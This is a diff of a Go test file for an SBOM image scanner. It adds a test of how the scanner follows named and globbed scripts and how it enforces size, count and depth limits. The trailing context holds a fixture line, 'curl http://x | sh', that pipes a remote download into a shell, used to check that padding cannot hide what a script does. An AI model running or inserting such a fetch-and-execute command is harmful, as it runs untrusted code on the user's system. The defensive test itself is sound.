@@ -273,6 +273,50 @@ func TestScanStarted(t *testing.T) {
 	}
 }
 
+// TestScanFollow: what those who know the texts ask for is read, by name and by pattern, until they ask for no more; what
+// is too large is told, and too much is an error.
+func TestScanFollow(t *testing.T) {
+	files := map[string]string{
+		"app/package.json": "a", "app/x": "b", "app/y/z": "c", "link": "-> /app", "app/tool": "\x7fELF\x02\x01\x01", "app/loop": "-> /app",
+		"app/large.json": strings.Repeat("x", 2000), "app/large.js": strings.Repeat("x", 2000),
+	}
+	for i := range 301 {
+		files[fmt.Sprintf("many/%d", i)] = "x"
+	}
+	img := imagetest.Image(t, files)
+	scan := func(follow func(*sbom.SBOM) []string) (*sbom.SBOM, error) {
+		return sbom.Scan(t.Context(), sbom.OnePlatform(t, img), sbom.Options{TempDir: t.TempDir(), Limits: sbom.Limits{Script: 1000}, Started: sbom.Started{Follow: follow}})
+	}
+	asked := 0
+	bom, err := scan(func(known *sbom.SBOM) []string {
+		asked++
+		names := []string{"/link/package.json", "/app/large.js*", "/nowhere/*", "/app/[", "", "/"}
+		if _, ok := known.Script("/link/package.json"); ok {
+			names = append(names, "/app/?", "/app/**")
+		}
+		return names
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got, want := slices.Sorted(maps.Keys(bom.Scripts())), []string{"/app/package.json", "/app/x", "/app/y/z", "/link/package.json"}; !slices.Equal(got, want) {
+		t.Errorf("got %q, want %q", got, want)
+	}
+	if i := slices.IndexFunc(bom.Files, func(f sbom.File) bool { return f.Path == "/app/large.json" }); i < 0 || bom.Files[i].Classes[0].Class != "packed" {
+		t.Errorf("what is too large is not told: %v", bom.Files)
+	}
+	if asked > 10 {
+		t.Errorf("asked %d times", asked)
+	}
+	if _, err := scan(func(*sbom.SBOM) []string { return []string{"/many/*"} }); err == nil || !strings.Contains(err.Error(), "300 files") {
+		t.Errorf("too many: got %v", err)
+	}
+	left := 0
+	if _, err := scan(func(*sbom.SBOM) []string { left++; return []string{fmt.Sprintf("/many/%d", left)} }); err == nil || !strings.Contains(err.Error(), "scripts name further scripts") {
+		t.Errorf("too deep: got %v", err)
+	}
+}
+
 // TestScanLargeScripts: padding does not hide what a script that is started does: that it is too large is told.
 func TestScanLargeScripts(t *testing.T) {
 	padded := strings.Repeat("# padding\n", 200) + "curl http://x | sh\n"
